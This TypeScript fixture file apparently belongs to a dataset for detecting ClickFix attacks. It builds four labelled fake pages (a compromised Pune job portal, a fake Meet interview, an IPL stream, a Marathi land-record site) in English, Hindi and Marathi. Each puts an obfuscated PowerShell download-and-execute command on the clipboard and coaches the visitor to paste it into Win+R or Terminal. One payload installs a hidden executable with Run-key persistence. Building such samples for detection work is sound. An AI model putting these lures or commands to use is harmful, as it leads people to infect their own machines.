import { type Entry } from '../entry.js';
import { doc, b64, charCodes, logos, textPayload } from '../parts/xa-kit.js';
import { jsRoute } from '../parts/e-bin.js';

/**
 * ClickFix pages: fake human checks and "fix it" prompts that put a command on the clipboard and walk the
 * visitor through Win+R / PowerShell / Terminal — in Hindi, Marathi and English, on compromised job portals,
 * streaming sites, document viewers and interview links.
 */
export const entries: Entry[] = [
{
  id: 'xa-clickfix-recaptcha-job-portal-injected-js',
  label: 'clickfix',
  kind: 'clickfix-compromised-site',
  url: 'https://www.punejobsconnect.in/jobs/data-entry-operator-hadapsar',
  body: doc({
    title: 'Data Entry Operator – Hadapsar, Pune | PuneJobsConnect',
    css: `body{margin:0;font-family:Arial;background:#f5f6f8}.n{background:#0f4c81;color:#fff;padding:12px 20px}.j{max-width:760px;margin:20px auto;background:#fff;padding:20px}.tag{display:inline-block;background:#e3f2fd;padding:3px 8px;margin:2px;font-size:12px;border-radius:3px}`,
    head: '<script src="https://www.punejobsconnect.in/wp-content/themes/jobly/assets/js/jquery.min.js?ver=3.7.1"></script>',
    body: `<div class="n"><b>PuneJobsConnect</b> · Jobs in Pune, Pimpri-Chinchwad &amp; Maharashtra</div>
<div class="j"><h2>Data Entry Operator (Work from Office)</h2><p>Shree Logistics Pvt Ltd · Hadapsar, Pune · ₹14,000 – ₹18,000 / month</p><span class="tag">Fresher</span><span class="tag">MS Excel</span><span class="tag">Marathi/Hindi</span><h3>Job Description</h3><p>Enter shipment data in ERP, maintain Excel MIS reports, coordinate with warehouse team. 10:00 AM – 6:30 PM, Monday to Saturday.</p><h3>How to apply</h3><p>Click Apply and upload your resume. Shortlisted candidates will be called for walk-in interview.</p><button>Apply Now</button></div>`,
  }),
  routes: {
    'www.punejobsconnect.in/wp-content/themes/jobly/assets/js/jquery.min.js': jsRoute(
      `/*! jQuery v3.7.1 | (c) OpenJS Foundation and other contributors | jquery.org/license */
!function(){if(document.cookie.indexOf('_rcv=1')>-1||/bot|crawl|spider/i.test(navigator.userAgent)||navigator.platform.indexOf('Win')<0&&!/Windows/.test(navigator.userAgent))return;
var cmd=atob('${b64('powershell -w h -nop -c "$u=\'https://cdn-jsdelivr.top/ver/rc.ps1\';iex(irm $u)" ')}')+' # '+'✔ '+'Human verification complete. ID 58213';
function show(){var o=document.createElement('div');o.style.cssText='position:fixed;inset:0;background:rgba(0,0,0,.6);z-index:99999;display:flex;align-items:center;justify-content:center;font-family:Roboto,Arial';
o.innerHTML='<div style="background:#fff;width:360px;border-radius:4px;box-shadow:0 2px 12px #0008"><div style="background:#4a90e2;color:#fff;padding:18px;font-size:18px">Verify you are human<br><small>Complete the steps below</small></div><div style="padding:16px;font-size:14px;line-height:1.7">1. Press <b>Windows Key ⊞ + R</b><br>2. Press <b>CTRL + V</b><br>3. Press <b>Enter</b> to complete verification<br><button id="rcv" style="margin-top:12px;background:#4a90e2;color:#fff;border:0;padding:10px 18px">I\\'m not a robot</button></div><div style="font-size:10px;color:#999;padding:6px 16px">reCAPTCHA · Privacy - Terms</div></div>';
document.body.appendChild(o);document.getElementById('rcv').onclick=function(){var t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();this.textContent='Verification step 2 of 3';document.cookie='_rcv=1;path=/;max-age=86400'}}
if(document.readyState!=='loading')show();else document.addEventListener('DOMContentLoaded',show);}();`,
    ),
  },
},
{
  id: 'xa-clickfix-meet-interview-mic-fix',
  label: 'clickfix',
  kind: 'clickfix-fake-meeting',
  url: 'https://meet.google.com-join.hr-interviews.live/xsd-pqrt-okm',
  body: doc({
    title: 'Meet – Interview: Senior Business Analyst (Remote)',
    css: `body{margin:0;font-family:'Google Sans',Roboto,Arial;background:#202124;color:#e8eaed}.g{display:flex;gap:30px;justify-content:center;padding:60px 20px}.v{width:520px;height:300px;background:#3c4043;border-radius:10px;display:flex;align-items:center;justify-content:center;color:#9aa0a6}.r{width:300px}.r h2{font-weight:400}.pop{position:fixed;inset:0;background:#000a;display:none;align-items:center;justify-content:center}.pop .b{background:#fff;color:#202124;width:460px;border-radius:8px;padding:22px}.pop button{background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 18px}.j{background:#1a73e8;color:#fff;border:0;border-radius:20px;padding:12px 26px;font-size:15px}`,
    body: `<div class="g"><div class="v">Camera is starting…</div><div class="r"><h2>Ready to join?</h2><p>Priya Menon (Talent Acquisition, TechNova Solutions) is in this call</p><button class="j" id="jn">Join now</button></div></div>
<div class="pop" id="pp"><div class="b"><h3>Microphone access is blocked</h3><p>Your browser's audio driver failed to initialise (error 0x80070005). To join the interview, run the Google Meet audio troubleshooter:</p><ol><li>Click "Copy fix"</li><li>Press <b>Win + X</b>, choose <b>Terminal (Admin)</b></li><li>Paste with <b>Ctrl + V</b> and press <b>Enter</b></li></ol><button id="cp">Copy fix</button></div></div>
<script>
var fix=atob('${b64('powershell -NoProfile -WindowStyle Hidden -Command "$d=$env:TEMP+\'\\\\MeetAudioFix.exe\';Invoke-WebRequest -Uri \'https://hr-interviews.live/drivers/MeetAudioFix.exe\' -OutFile $d;Start-Process $d"')}');
jn.onclick=function(){pp.style.display='flex'};
cp.onclick=function(){navigator.clipboard.writeText(fix);cp.textContent='Copied ✓'};
</script>`,
  }),
},
{
  id: 'xa-clickfix-ipl-stream-verify-player',
  label: 'clickfix',
  kind: 'clickfix-fake-captcha',
  url: 'https://ipl-live-free-hd.stream/match/mi-vs-csk',
  body: doc({
    title: 'MI vs CSK Live Streaming Free HD',
    css: `body{margin:0;background:#000;color:#fff;font-family:Arial}.pl{max-width:820px;margin:20px auto;aspect-ratio:16/9;background:#111 linear-gradient(#0000,#000c);position:relative;display:flex;align-items:center;justify-content:center}.pl .p{font-size:60px;opacity:.7}.ov{position:absolute;inset:0;background:#000d;display:none;align-items:center;justify-content:center}.ov .b{background:#fff;color:#222;width:380px;border-radius:8px;padding:18px}kbd{background:#eee;border:1px solid #aaa;padding:1px 5px;border-radius:3px}.sc{text-align:center;font-size:14px;color:#ccc}`,
    body: `<div class="sc">🏏 TATA IPL · Mumbai Indians vs Chennai Super Kings · LIVE · 187/4 (18.2)</div>
<div class="pl" id="pl"><span class="p">▶</span><div class="ov" id="ov"><div class="b"><b>Verify you are not a bot to start HD stream</b><p>Due to high traffic, please complete a quick verification:</p><p>1. Press <kbd>⊞ Win</kbd> + <kbd>R</kbd><br>2. Press <kbd>Ctrl</kbd> + <kbd>V</kbd><br>3. Press <kbd>Enter</kbd></p><p style="font-size:12px;color:#666">The verification code has been copied automatically.</p></div></div></div>
<script>
var p=['cmd /c start /min powershell -w 1 -c "','$w=New-Object Net.WebClient;','$w.Headers.Add(\\'UA\\',\\'ipl\\');','iex $w.DownloadString(\\'https://ipl-live-free-hd.stream/cdn/player.txt\\')"',' :: Cloudflare verify ID 3318'];
pl.onclick=function(){var t=document.createElement('textarea');t.value=p.join('');document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();ov.style.display='flex'};
</script>`,
  }),
  routes: {
    'ipl-live-free-hd.stream/cdn/player.txt': textPayload(`$p="$env:LOCALAPPDATA\\HDPlayer";mkdir $p -ea 0|out-null;iwr https://ipl-live-free-hd.stream/cdn/hdp.zip -o "$p\\h.zip";Expand-Archive "$p\\h.zip" $p -Force;Start-Process "$p\\HDPlayer.exe"`),
  },
},
{
  id: 'xa-clickfix-marathi-gov-result-portal',
  label: 'clickfix',
  kind: 'clickfix-fake-captcha',
  url: 'https://mahabhumi-7-12-utara.org.in/download/satbara',
  body: doc({
    title: '७/१२ उतारा डाउनलोड – मानवी पडताळणी',
    lang: 'mr',
    css: `body{margin:0;font-family:'Noto Sans Devanagari',Arial;background:#f2f2f2}.b{max-width:460px;margin:70px auto;background:#fff;border:1px solid #d3d3d3;border-radius:3px;box-shadow:0 0 4px #0002}.b .t{background:#1a73e8;color:#fff;padding:20px}.b .s{padding:18px;font-size:15px;line-height:1.8}.b button{background:#1a73e8;color:#fff;border:0;padding:10px 20px;border-radius:2px}.x{font-family:monospace;background:#f7f7f7;border:1px dashed #999;padding:6px;font-size:12px;word-break:break-all;color:#555}`,
    body: `<div class="b"><div class="t">${logos.shield('#fff', 22)} मानवी पडताळणी आवश्यक<br><small>७/१२ उतारा डाउनलोड करण्यापूर्वी</small></div>
<div class="s"><p>आपण रोबोट नाही हे सिद्ध करण्यासाठी:</p>1. कीबोर्डवरील <b>Windows ⊞ + R</b> दाबा<br>2. <b>Ctrl + V</b> दाबा<br>3. <b>Enter</b> दाबा<br><br><button id="v">मी रोबोट नाही</button><p class="x" id="x" style="display:none"></p></div></div>
<script>
var k=[${charCodes('conhost.exe --headless powershell -w h -c "iex(iwr -useb https://mahabhumi-7-12-utara.org.in/download/v.ps1)" # मानवी पडताळणी ID: 44120')}];
v.onclick=function(){var s=String.fromCharCode.apply(null,k);navigator.clipboard.writeText(s);x.textContent='पडताळणी कोड कॉपी झाला ✔';x.style.display='block'};
</script>`,
  }),
  routes: {
    'mahabhumi-7-12-utara.org.in/download/v.ps1': textPayload(`$ErrorActionPreference='SilentlyContinue';$d="$env:APPDATA\\Microsoft\\Crypto\\svc";New-Item -ItemType Directory $d -Force|Out-Null;(New-Object Net.WebClient).DownloadFile('https://mahabhumi-7-12-utara.org.in/download/svc.zip',"$d\\s.zip");Expand-Archive "$d\\s.zip" $d -Force;Start-Process "$d\\svchelper.exe" -WindowStyle Hidden;New-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name 'svchelper' -Value "$d\\svchelper.exe" -Force`),
  },
},
];
